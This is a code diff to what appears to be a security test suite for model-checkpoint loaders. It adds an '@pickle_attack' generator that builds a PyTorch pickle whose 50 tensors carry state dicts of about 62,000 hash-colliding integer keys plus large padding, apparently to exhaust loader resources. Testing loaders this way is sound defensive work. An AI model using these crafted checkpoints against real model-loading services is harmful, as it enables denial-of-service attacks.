@@ -9,7 +9,25 @@ from functools import cache
 
 import numpy as np
 from checkpoint_files import entry, payload, safetensors_file
-from pickle_code import EMPTY_DICT, MARK, NONE, SETITEMS, integer, program, put, unicode
+from pickle_code import (
+    APPENDS,
+    EMPTY_DICT,
+    EMPTY_LIST,
+    MARK,
+    NO_HOOKS,
+    NONE,
+    POP,
+    SETITEMS,
+    Code,
+    get,
+    integer,
+    name,
+    program,
+    put,
+    storage,
+    unicode,
+    value,
+)
 
 from attacks import attack
 from attacks.containers import pickle_attack
@@ -60,6 +78,21 @@ def keys_whose_places_are_taken():
 def places_of_the_memo_that_are_taken():
     found = walkers(np.arange(PLACES, 1 << 20))[:27_000]
     return program(unicode("a" * (1 << 20)), *(put(b"", n) for n in (*way(), *found)))
+
+
+@pickle_attack("have 50 tensors with a state of 62,000 keys whose places are taken", forms=["zip"])
+def states_whose_places_are_taken():
+    keys = b"".join(integer(key) + NONE for key in [*way().tolist(), *colliding()[FILLED:][:2000]])
+    given = (
+        name("torch._utils", "_rebuild_tensor_v2"), name("foo", "T"),
+        value((storage("0", 4), 0, (4,), (1,), False, NO_HOOKS)),
+        EMPTY_DICT + MARK + keys + SETITEMS,
+    )  # fmt: skip
+    said = b"".join(put(Code(one), n) + POP for n, one in enumerate(given))
+    call = put(name("torch._tensor", "_rebuild_from_type_v2"), 9) + POP
+    one = get(9) + MARK + get(0) + get(1) + get(2) + get(3) + b"tR"
+    padding = unicode("a" * 500_000) + POP  # of which copies are allowed
+    return program(said, call, padding, EMPTY_LIST, MARK, one * 50, APPENDS)
 
 
 @attack("have notes with 27,000 keys whose places are taken")
